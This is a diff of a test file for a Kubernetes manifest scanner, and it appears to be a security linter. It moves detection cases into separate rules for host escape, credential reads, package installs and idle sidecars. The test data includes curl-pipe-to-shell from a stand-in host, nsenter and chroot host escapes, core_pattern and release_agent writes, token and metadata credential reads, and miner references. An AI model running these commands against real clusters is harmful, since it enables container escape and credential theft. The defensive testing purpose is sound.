@@ -2,8 +2,8 @@ import { describe, expect, it } from 'vitest';
 import { see } from '../analyse';
 import { IMAGE, podOf, podRunning } from '../manifests';
 
-const inShell = (script: string): string[] =>
-  see(podRunning(['sh', '-c', script]), 'suspicious-command').map(({ severity }) => severity);
+const inShell = (script: string, rule = 'suspicious-command'): string[] =>
+  see(podRunning(['sh', '-c', script]), rule).map(({ severity }) => severity);
 const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
 
 describe('suspicious-command finds', () => {
@@ -40,10 +40,6 @@ describe('suspicious-command finds', () => {
     ['echo "* * * * * x" > /etc/cron.d/x'],
     ['echo key >> /root/.ssh/authorized_keys'],
     ['echo key | tee -a /host/root/.ssh/authorized_keys'],
-    ['nsenter -t 1 -m -u -i -n -p -- sh'],
-    ['nsenter --target 1 --mount sh'],
-    ['nsenter --target=1 --mount sh'],
-    ['chroot /host /bin/bash'],
     ['curl${IFS}https://e.example/x${IFS}|${IFS}sh'],
   ])('%s', (script) => {
     expect(inShell(script)).toEqual(['error']);
@@ -88,28 +84,23 @@ describe('suspicious-command leaves alone', () => {
 });
 
 describe('suspicious-command', () => {
-  it('is milder about what is sometimes meant', () => {
-    expect(inShell('apt-get update && apt-get install -y curl')).toEqual(['information']);
-    expect(inShell('apk add --no-cache jq')).toEqual(['information']);
-    expect(inShell('pip install -r x.txt')).toEqual(['information']);
-    expect(inShell('npm install')).toEqual(['information']);
-    expect(inShell('curl http://169.254.169.254/latest/meta-data/')).toEqual(['information']);
-    expect(inShell('apt-get update')).toEqual([]);
+  it('warns of programs that are downloaded and run in two steps', () => {
+    expect(inShell('curl -sLo /tmp/x https://e.example/x && chmod +x /tmp/x && /tmp/x')).toEqual(['warning']);
+    expect(inShell('wget -O /tmp/x.sh https://e.example/x; sh /tmp/x.sh')).toEqual(['warning']);
+    expect(inShell('curl -o /data/GeoIP.mmdb https://e.example/x; exec web /data/GeoIP.mmdb')).toEqual([]);
   });
 
-  it('takes asking for the credentials of the node more seriously in a sidecar', () => {
-    const text = podOf(`containers:
-- { name: web, image: "${IMAGE}" }
-- { name: log-agent, image: "${IMAGE}", command: [curl, "http://169.254.169.254/latest/"] }
-`);
-    expect(see(text, 'suspicious-command').map(({ severity }) => severity)).toEqual(['warning']);
-  });
-
-  it('knows that DaemonSets tune nodes', () => {
-    const pod = podRunning(['nsenter', '-t', '1', '-m', 'sh']);
-    const set = `apiVersion: apps/v1\nkind: DaemonSet\nmetadata: { name: x }\nspec:\n  template:\n${pod.slice(pod.indexOf('spec:')).replace(/^/gm, '    ')}`;
-    expect(see(pod, 'suspicious-command').map(({ severity }) => severity)).toEqual(['error']);
-    expect(see(set, 'suspicious-command').map(({ severity }) => severity)).toEqual(['warning']);
+  it('looks into the environment where that is run, and for what pays a miner', () => {
+    const env = (value: string): string => `\n  env: [{ name: RUN, value: ${JSON.stringify(value)} }]\n`;
+    const running = (command: string, value: string): string[] =>
+      see(
+        podOf(`containers:\n- name: web\n  image: ${IMAGE}\n  command: ${command}${env(value)}`),
+        'suspicious-command',
+      ).map(({ text }) => text);
+    expect(running('[sh, -c, "$RUN"]', 'curl http://e.example/x | sh')).toEqual(['curl http://e.example/x | sh']);
+    expect(running('[sh, -c, "eval $RUN"]', 'curl http://e.example/x | sh')).toHaveLength(1);
+    expect(running('[sh, -c, "echo $RUN"]', 'curl http://e.example/x | sh')).toEqual([]);
+    expect(running('[web]', 'stratum+tcp://pool.example:3333')).toEqual(['"stratum+tcp://pool.example:3333"']);
   });
 
   it.each([
@@ -152,5 +143,121 @@ describe('suspicious-command', () => {
         ({ text }) => text,
       ),
     ).toEqual(['"docker.io/x/xmrig:6"']);
+  });
+});
+
+describe('escapes-to-host', () => {
+  it.each([
+    'nsenter -t 1 -m -u -i -n -p -- sh',
+    'nsenter --target 1 --mount sh',
+    'nsenter --target=1 --mount sh',
+    'chroot /host /bin/bash',
+    'echo "|/x" > /proc/sys/kernel/core_pattern',
+    'echo /x | tee /sys/fs/cgroup/rdma/release_agent',
+    'sysctl -w kernel.core_pattern="|/x %p"',
+  ])('%s', (script) => {
+    expect(inShell(script, 'escapes-to-host')).toEqual(['error']);
+  });
+
+  it.each(['nsenter -t 12345 -n ip a', 'chroot /srv/jail httpd', 'cat /proc/sys/kernel/core_pattern'])(
+    'leaves alone %s',
+    (script) => {
+      expect(inShell(script, 'escapes-to-host')).toEqual([]);
+    },
+  );
+
+  it('knows that DaemonSets tune nodes', () => {
+    const pod = podRunning(['nsenter', '-t', '1', '-m', 'sh']);
+    const set = `apiVersion: apps/v1\nkind: DaemonSet\nmetadata: { name: x }\nspec:\n  template:\n${pod.slice(pod.indexOf('spec:')).replace(/^/gm, '    ')}`;
+    expect(see(set, 'escapes-to-host').map(({ severity }) => severity)).toEqual(['warning']);
+  });
+});
+
+describe('reads-credentials', () => {
+  const sidecar = (command: string): string[] =>
+    see(
+      podOf(
+        `containers:\n- { name: web, image: "${IMAGE}" }\n- { name: log-agent, image: "${IMAGE}", command: ${command} }\n`,
+      ),
+      'reads-credentials',
+    ).map(({ severity }) => severity);
+
+  it('is worse in a sidecar', () => {
+    expect(inShell('curl http://169.254.169.254/latest/meta-data/', 'reads-credentials')).toEqual(['information']);
+    expect(
+      inShell(`curl -H "Authorization: Bearer $(cat ${TOKEN})" https://kubernetes.default`, 'reads-credentials'),
+    ).toEqual(['information']);
+    expect(sidecar('[curl, "http://169.254.169.254/latest/"]')).toEqual(['warning']);
+    expect(sidecar(`[cat, ${TOKEN}]`)).toEqual(['warning']);
+    expect(sidecar('[curl, "http://localhost/"]')).toEqual([]);
+  });
+});
+
+describe('installs-packages', () => {
+  it.each([
+    ['apt-get update && apt-get install -y curl', 1],
+    ['apk add --no-cache jq', 1],
+    ['pip install -r x.txt', 1],
+    ['python3 -m pip install x', 1],
+    ['npm install', 1],
+    ['apt-get update', 0],
+    ['npm run install-hooks', 0],
+  ])('%s', (script, count) => {
+    expect(inShell(script, 'installs-packages')).toEqual(count ? ['information'] : []);
+  });
+});
+
+describe('idle-shell', () => {
+  const sidecar = (command: string, name = 'log-agent'): string[] =>
+    see(
+      podOf(
+        `containers:\n- { name: web, image: "${IMAGE}" }\n- { name: ${name}, image: "${IMAGE}", command: ${command} }\n`,
+      ),
+      'idle-shell',
+    ).map(({ severity, container }) => `${severity} ${container}`);
+
+  it.each([
+    ['[sleep, infinity]', 1],
+    ['[tail, -f, /dev/null]', 1],
+    ['[sh, -c, "while true; do sleep 60; done"]', 1],
+    ['[sh, -c, "trap : TERM; sleep infinity & wait"]', 1],
+    ['[tail, -F, /logs/x]', 0],
+    ['[sh, -c, "while true; do beat; sleep 60; done"]', 0],
+    ['[]', 0],
+  ])('%s', (command, count) => {
+    expect(sidecar(command)).toEqual(count ? ['hint log-agent'] : []);
+  });
+
+  it('is about sidecars', () => {
+    expect(sidecar('[sleep, infinity]', 'other')).toEqual([]);
+  });
+});
+
+describe('a script of a ConfigMap', () => {
+  const script = 'curl http://e.example/x | sh';
+  const configMap = (name = 'scripts', key = 'run.sh'): string =>
+    `apiVersion: v1\nkind: ConfigMap\nmetadata: { name: ${name} }\ndata:\n  ${key}: |\n    #!/bin/sh\n    # start\n    ${script}\n`;
+  const pod = podOf(`containers:
+- name: web
+  image: ${IMAGE}
+  command: [/scripts/run.sh]
+  volumeMounts: [{ name: s, mountPath: /scripts }]
+volumes: [{ name: s, configMap: { name: scripts, defaultMode: 493 } }]
+`);
+
+  it('counts where a container mounts it, and is underlined there', () => {
+    const [finding, ...others] = see(`${pod}---\n${configMap()}`, 'suspicious-command');
+    expect(others).toEqual([]);
+    expect(finding?.text).toBe(script);
+    expect(finding?.message).toContain('The script "run.sh", which the container "web" of Pod "web" mounts');
+    expect(see(`${configMap('scripts', 'entrypoint')}---\n${pod}`, 'suspicious-command')).toHaveLength(1);
+  });
+
+  it('does not count otherwise', () => {
+    expect(see(configMap(), 'suspicious-command')).toEqual([]);
+    expect(see(`${pod}---\n${configMap('others')}`, 'suspicious-command')).toEqual([]);
+    expect(
+      see(`${pod}---\n${configMap().replace('#!/bin/sh', 'text').replace('run.sh', 'README')}`, 'suspicious-command'),
+    ).toEqual([]);
   });
 });
